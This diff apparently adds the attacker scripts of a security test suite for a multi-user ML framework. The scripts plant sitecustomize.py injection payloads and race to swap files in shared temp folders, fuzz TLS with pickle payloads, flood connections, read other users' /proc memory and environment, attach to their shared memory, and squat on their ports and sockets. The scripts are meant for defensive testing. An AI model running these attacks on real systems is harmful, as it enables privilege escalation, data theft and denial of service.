@@ -1,0 +1,309 @@
+"""What mallory runs on a node, with the machine's own Python: each prints a line of JSON about what it tried."""
+
+from __future__ import annotations
+
+# Plants names, then swaps whatever appears, until its input ends. Arguments: the folder to plant in, and who is attacked.
+WATCH = r"""
+import ctypes, json, os, pwd, sys, threading
+place, victim = sys.argv[1], pwd.getpwnam(sys.argv[2]).pw_uid
+payload = "import os\nopen(f'/tmp/owned-{os.getuid()}-{os.getpid()}', 'w').close()\ndef value(): return 'mallorys'\n"
+tries, won, seen = 0, [], set()
+
+def attempt(label, act):
+    global tries
+    tries += 1
+    try:
+        act()
+    except OSError:
+        return
+    won.append(label)
+
+def fill(folder):
+    for name in ("helper.py", "sitecustomize.py", "usercustomize.py"):
+        with open(f"{folder}/{name}", "w") as file:
+            file.write(payload)
+    os.chmod(folder, 0o777)
+
+def plant(folder):
+    os.mkdir(folder)
+    fill(folder)
+
+os.umask(0)
+shared = [f"{place}/dask-scratch-space", f"{place}/dask-worker-space", f"{place}/dask-scratch-space-{victim}",
+          f"{place}/hpcml", f"{place}/hpcml-{victim}", f"{place}/hpcml-aaaaaaaa", f"{place}/runtime-{victim}"]
+for folder in shared:
+    plant(folder)
+stop = threading.Event()
+threading.Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
+print("planted", flush=True)
+while not stop.is_set():
+    for folder in [place, *shared]:
+        try:
+            entries = list(os.scandir(folder))
+        except OSError:
+            continue
+        for entry in entries:
+            path = entry.path
+            try:
+                theirs = entry.stat(follow_symlinks=False).st_uid == victim
+            except OSError:
+                continue
+            if not theirs or path in seen or "/owned-" in path or ".away" in path:
+                continue
+            seen.add(path)
+            swapped = path + ".away"
+            def swap():
+                os.rename(path, swapped)
+                if os.path.isdir(swapped):
+                    os.mkdir(path)
+                    fill(path)
+            attempt(f"swapped {path}", swap)
+            if path.startswith(f"{place}/hpcml-"):
+                attempt(f"listed {path}", lambda: os.listdir(path))
+                attempt(f"wrote below {path}", lambda: open(f"{path}/helper.py", "w"))
+                attempt(f"wrote where Dask imports below {path}", lambda: fill(f"{path}/dask-scratch-space"))
+                attempt(f"linked below {path}", lambda: os.symlink("/etc/passwd", f"{path}/link"))
+                attempt(f"removed {path}", lambda: os.rmdir(path))
+                attempt(f"chmodded {path}", lambda: os.chmod(path, 0o777))
+                attempt(f"hard link to {path}/.lives", lambda: os.link(f"{path}/.lives", f"{place}/kept-{os.getpid()}"))
+    stop.wait(0.0005)
+print(json.dumps({"tries": tries, "won": won, "planted": len(shared)}), flush=True)
+"""
+
+# Names that libraries could use, as folders, links to a treasure and sockets, in several hundred forms.
+NAMES = r"""
+import json, os, random, socket, string, sys
+places, target = sys.argv[1].split(","), sys.argv[2]
+random.seed(5)
+os.umask(0)
+made = 0
+def word(letters, count): return "".join(random.choice(letters) for _ in range(count))
+low = string.ascii_lowercase + string.digits + "_"
+forms = [lambda: "hpcml-" + word(low, 8), lambda: f"hpcml-{random.randint(1, 99)}-" + word("0123456789abcdef", 16),
+         lambda: "hpcml." + word(string.ascii_letters, 8), lambda: "tmp" + word(low, 8), lambda: "pymp-" + word(low, 8),
+         lambda: "psm_" + word("0123456789abcdef", 8), lambda: "sem.mp-" + word(low, 8), lambda: f"joblib_memmapping_folder_{random.randint(1, 9999)}",
+         lambda: "ucx_shm_posix_" + word("0123456789abcdef", 8), lambda: f"scheduler-{word(low, 8)}", lambda: f"worker-{word(low, 8)}",
+         lambda: f"matplotlib-{word(low, 8)}", lambda: "nccl-" + word(string.ascii_letters, 6), lambda: f"hpcml-hop-{word(low, 8)}"]
+for place in places:
+    for number in range(150):
+        path = f"{place}/{forms[number % len(forms)]()}"
+        try:
+            if number % 3 == 0:
+                os.mkdir(path)
+                with open(f"{path}/.lives", "w") as file: file.write(socket.gethostname())
+                os.symlink(target, f"{path}/inner")
+            elif number % 3 == 1:
+                os.symlink(target, path)
+            else:
+                s = socket.socket(socket.AF_UNIX); s.bind(path); os.chmod(path, 0o777)
+            made += 1
+        except OSError:
+            pass
+print(json.dumps({"tries": made, "won": []}))
+"""
+
+# Every kind of TLS that a stranger can speak, and bytes. Arguments: host, port.
+TALK = r"""
+import json, os, pickle, socket, ssl, struct, subprocess, sys, tempfile, warnings
+warnings.simplefilter("ignore")
+host, port = sys.argv[1], int(sys.argv[2])
+folder = tempfile.mkdtemp()
+subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", f"{folder}/k",
+                "-out", f"{folder}/c", "-subj", "/CN=hpcml run", "-days", "2"], check=True, capture_output=True)
+tries, won = 0, []
+def send(payload, wrap):
+    s = socket.create_connection((host, port), timeout=5)
+    try:
+        if wrap: s = wrap.wrap_socket(s)
+        s.settimeout(3)
+        s.sendall(payload)
+        data = b""
+        while len(data) < 200 and (more := s.recv(200)): data += more
+        return data
+    finally:
+        s.close()
+def attempt(label, payload, wrap=None):
+    global tries
+    tries += 1
+    try:
+        data = send(payload, wrap)
+    except OSError:
+        return
+    # Over plain TCP an alert of TLS may come (its first byte is 21), and nothing else.
+    if data and not (wrap is None and data[0] in (21, 22)):
+        won.append(f"{label}: {data[:40]!r}")
+hello = struct.pack("<QQQ", 1, 1, 60)
+payloads = {"http": b"GET / HTTP/1.0\r\n\r\n", "post": b"POST /api HTTP/1.1\r\nHost: localhost\r\n\r\n", "dask": hello, "pickle": pickle.dumps(os.getcwd),
+            "zeros": bytes(500), "ones": b"\xff" * 500, "long": struct.pack("<Q", 2**62), "half a record": b"\x16\x03\x01\x02\x00\x01",
+            "alert": b"\x15\x03\x03\x00\x02\x02\x28", "heartbeat": b"\x18\x03\x02\x00\x03\x01\x40\x00", "v2 hello": b"\x80\x2e\x01\x03\x01"}
+payloads.update({f"random {n}": os.urandom(1 + n * 37) for n in range(10)})
+versions = [ssl.TLSVersion.TLSv1, ssl.TLSVersion.TLSv1_1, ssl.TLSVersion.TLSv1_2, ssl.TLSVersion.TLSv1_3]
+for name, payload in payloads.items():
+    attempt(f"plain {name}", payload)
+for version in versions:
+    for certificate in (False, True):
+        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+        try:
+            context.set_ciphers("ALL:@SECLEVEL=0")
+            context.minimum_version = context.maximum_version = version
+        except (ssl.SSLError, ValueError):
+            continue
+        if certificate: context.load_cert_chain(f"{folder}/c", f"{folder}/k")
+        for name in ("dask", "http", "pickle"):
+            attempt(f"{version.name}{' own certificate' if certificate else ''} {name}", payloads[name], context)
+for ciphers in ("aNULL", "eNULL", "PSK", "ADH"):
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    try:
+        context.maximum_version = ssl.TLSVersion.TLSv1_2
+        context.set_ciphers(f"{ciphers}:@SECLEVEL=0")
+    except ssl.SSLError:
+        continue
+    attempt(f"ciphers {ciphers}", hello, context)
+# She passes the server's own messages back to it, and her peer's to another: replay and reflection.
+s = socket.create_connection((host, port), timeout=5); s.settimeout(3)
+context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
+try: context.wrap_bio(i, o).do_handshake()
+except ssl.SSLError: pass
+first = o.read()
+s.sendall(first)
+try: answer = s.recv(16384)
+except OSError: answer = b""
+for label, payload in (("replayed hello", first), ("hello twice", first + first), ("reflected", answer), ("hello and its answer", first + answer)):
+    attempt(label, payload)
+print(json.dumps({"tries": tries, "won": won}))
+"""
+
+# Floods: so many connections, idle or half-open, for some seconds. Prints when they are there, and what became of them.
+FLOOD = r"""
+import json, resource, socket, ssl, sys, time
+host, port, count, kind, patience = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4], float(sys.argv[5])
+resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
+context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
+try: context.wrap_bio(i, o).do_handshake()
+except ssl.SSLError: pass
+first = o.read() if kind == "half-open" else b""
+held = []
+for _ in range(count):
+    try:
+        s = socket.create_connection((host, port), timeout=20)
+        if first: s.sendall(first)
+        held.append(s)
+    except OSError:
+        pass
+print("there", flush=True)
+until, dropped = time.monotonic() + patience, 0
+while held and time.monotonic() < until:
+    for s in list(held):
+        s.setblocking(False)
+        try:
+            while s.recv(65536): pass
+        except BlockingIOError:
+            continue
+        except OSError:
+            pass
+        s.close(); held.remove(s); dropped += 1
+    time.sleep(0.1)
+print(json.dumps({"tries": count, "won": ["a connection stays"] * len(held)}))
+"""
+
+# Her view of processes and files that are not hers. Arguments: files, then "--", then pids.
+READ = r"""
+import json, os, sys
+at = sys.argv.index("--")
+tries, won = 0, []
+def attempt(label, act):
+    global tries
+    tries += 1
+    try:
+        act()
+    except OSError:
+        return
+    won.append(label)
+def look(path):
+    with open(path, "rb") as file: file.read(64)
+for path in sys.argv[1:at]:
+    attempt(f"read {path}", lambda: look(path) if not os.path.isdir(path) else os.listdir(path))
+    attempt(f"wrote {path}", lambda: os.close(os.open(path, os.O_WRONLY | os.O_NOFOLLOW)))
+    attempt(f"replaced {path}", lambda: os.rename(path, path + ".away"))
+    attempt(f"opened to all {path}", lambda: os.chmod(path, 0o777))
+for pid in sys.argv[at + 1:]:
+    for name in ("environ", "mem", "maps", "io", "auxv", "stack"):
+        attempt(f"read {name} of {pid}", lambda: look(f"/proc/{pid}/{name}"))
+    for name in ("cwd", "exe", "root", "fd/0", "fd/1", "fd/2", "fd/3", "fd/4", "fd/5"):
+        attempt(f"followed {name} of {pid}", lambda: os.stat(f"/proc/{pid}/{name}"))
+    for name in ("fd", "map_files"):
+        attempt(f"listed {name} of {pid}", lambda: os.listdir(f"/proc/{pid}/{name}"))
+    attempt(f"signalled {pid}", lambda: os.kill(int(pid), 0))
+    attempt(f"watched {pid}", lambda: os.sched_setaffinity(int(pid), {0}))
+print(json.dumps({"tries": tries, "won": won}))
+"""
+
+# Attaches to shared memory of another user's: System V's segments, POSIX's names, and memory behind other processes' files.
+SHARED = r"""
+import ctypes, json, os, sys
+uid, pids = int(sys.argv[1]), sys.argv[2:]
+libc = ctypes.CDLL(None, use_errno=True)
+libc.shmat.restype = ctypes.c_void_p
+libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
+tries, won, segments = 0, [], 0
+for line in open("/proc/sysvipc/shm").read().splitlines()[1:]:
+    fields = line.split()
+    if int(fields[7]) != uid: continue
+    segments += 1
+    for flags, how in ((0, "read and write"), (0o10000, "read")):
+        tries += 1
+        if libc.shmat(int(fields[1]), None, flags) not in (None, ctypes.c_void_p(-1).value): won.append(f"{how} segment {fields[1]} of mode {fields[2]}")
+paths = [f"/dev/shm/{name}" for name in os.listdir("/dev/shm")]
+for pid in pids:
+    try: numbers = os.listdir(f"/proc/{pid}/fd")
+    except OSError: numbers = [str(n) for n in range(40)]
+    paths += [f"/proc/{pid}/fd/{n}" for n in numbers]
+for path in paths:
+    try:
+        if path.startswith("/dev/shm") and os.lstat(path).st_uid != uid: continue
+    except OSError: pass
+    for flags in (os.O_RDONLY, os.O_RDWR):
+        tries += 1
+        try: os.close(os.open(path, flags | os.O_NONBLOCK))
+        except OSError: continue
+        won.append(f"opened {path}")
+print(json.dumps({"tries": tries, "won": won, "segments": segments}))
+"""
+
+# Takes the place of what listens: the same port, beside it or on all addresses. Arguments: host, then ports.
+SQUAT = r"""
+import json, socket, sys
+tries, won = 0, []
+for port in map(int, sys.argv[2:]):
+    for address in (sys.argv[1], "0.0.0.0", "127.0.0.1", "::"):
+        for options in ((), (socket.SO_REUSEADDR,), (socket.SO_REUSEPORT,), (socket.SO_REUSEADDR, socket.SO_REUSEPORT)):
+            family = socket.AF_INET6 if ":" in address else socket.AF_INET
+            with socket.socket(family) as s:
+                for option in options: s.setsockopt(socket.SOL_SOCKET, option, 1)
+                tries += 1
+                try:
+                    s.bind((address, port)); s.listen(8)
+                except OSError:
+                    continue
+                if address == sys.argv[1] or address in ("0.0.0.0",): won.append(f"{address}:{port} with {len(options)} options")
+print(json.dumps({"tries": tries, "won": won}))
+"""
+
+# Connects to sockets of the victim's, and speaks what they speak. Arguments: paths.
+KNOCK = r"""
+import json, socket, sys
+tries, won = 0, []
+for path in sys.argv[1:]:
+    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
+        tries += 1
+        with socket.socket(socket.AF_UNIX, kind) as s:
+            s.settimeout(3)
+            try: s.connect(path)
+            except OSError: continue
+            won.append(path)
+print(json.dumps({"tries": tries, "won": won}))
+"""
